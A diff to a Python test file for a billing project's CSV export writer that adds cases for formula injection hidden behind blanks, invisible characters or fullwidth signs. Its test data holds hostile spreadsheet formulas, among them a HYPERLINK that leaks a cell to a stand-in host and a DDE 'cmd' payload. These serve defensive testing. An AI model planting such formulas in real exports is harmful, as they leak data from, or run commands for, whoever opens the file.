@@ -1,8 +1,9 @@
 """Tenant ↔ whoever opens an export: text a tenant chose (a model name, a key's name) never reaches a CSV as a
 live spreadsheet formula. Every CSV the project writes (the usage API's, the records export of the API and of
 the dashboard, monthly statements) goes through one writer (`billing.exports.csv.csv_text`), which leads a text
-cell starting with `= + - @`, a tab or a CR with `'`; numbers, and decimal strings such as a negative cost,
-stay numbers. (The S3 export is JSON lines, not CSV.)"""
+cell starting with `= + - @`, a tab or a CR with `'`, also when blanks or invisible characters (a space,
+U+3000, a newline, NUL, ZWSP, BOM) come first or the sign is a fullwidth one (`＝`); numbers, and decimal
+strings such as a negative cost, stay numbers. (The S3 export is JSON lines, not CSV.)"""
 
 from __future__ import annotations
 
@@ -10,6 +11,7 @@ import calendar
 import csv
 import io
 import time
+import unicodedata
 
 import httpx
 import pytest
@@ -26,6 +28,10 @@ from tests.security.stub_served import MODEL, sign_in, stub_served
 ADMIN_KEY = "csv-exports-admin-key-0123456789abcdef"
 HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tleading tab", "\rleading cr"]
+# the same formulas behind what a spreadsheet skips or folds (issue #43, second round)
+DISGUISED = [" =1+1", "\u3000=1+1", "\uff1dHYPERLINK(\"http://evil.example\")", "\n=1+1", "\x00=1+1",
+             "\u200b=1+1", "\ufeff=1+1", " \u200b\ufeff@SUM(A1)", "\uff0bcmd", "\u2003-2+3"]
+HOSTILE += DISGUISED
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -33,10 +39,18 @@ def cells(text: str) -> list[list[str]]:
     return list(csv.reader(io.StringIO(text)))
 
 
+def spreadsheet_reading(cell: str) -> str:
+    """The start of a cell as a spreadsheet reads it: blanks and invisible characters skipped, fullwidth folded."""
+    visible = cell.lstrip("".join(c for c in map(chr, range(0x3001)) if c.isspace() or not c.isprintable()))
+    visible = visible.lstrip("\u3000\u200b\ufeff")
+    return unicodedata.normalize("NFKC", visible[:1]) + visible[1:]
+
+
 def assert_no_live_formula(text: str) -> None:
     for row in cells(text):
         for cell in row:
             assert not cell.startswith(FORMULA_START) or _is_number(cell), (cell, row)
+            assert not spreadsheet_reading(cell).startswith(FORMULA_START) or _is_number(cell), (cell, row)
 
 
 def _is_number(cell: str) -> bool:
@@ -53,13 +67,20 @@ def test_a_text_cell_that_starts_a_formula_is_written_as_text(value):
     assert cells(csv_text([[value]])) == [["'" + value]]
 
 
+@pytest.mark.parametrize("value", DISGUISED)
+def test_a_formula_behind_blanks_invisible_or_fullwidth_characters_is_written_as_text(value):
+    assert safe_cell(value) == "'" + value
+    assert_no_live_formula(csv_text([[value]]))
+
+
 def test_a_carriage_return_inside_a_cell_starts_no_row():
     text = csv_text([["ok\r=HYPERLINK(1)", 1]])
     assert cells(text) == [["ok\r=HYPERLINK(1)", "1"]]
     assert text.count("\r") == 2 and text.endswith("\r\n")  # the cell's own CR is inside quotes
 
 
-@pytest.mark.parametrize("value", [-5, 0, 12, -1.5, "-1.500000", "-12", "12.5", "model", "", None, "a=b", "-"])
+@pytest.mark.parametrize("value", [-5, 0, 12, -1.5, "-1.500000", "-12", "12.5", "model", "", None, "a=b", "-",
+                                   " plain", "\u3000名前", " -1.5", "\uff41=b"])
 def test_numbers_and_plain_text_stay_as_they_are(value):
     assert safe_cell(value) == value
 
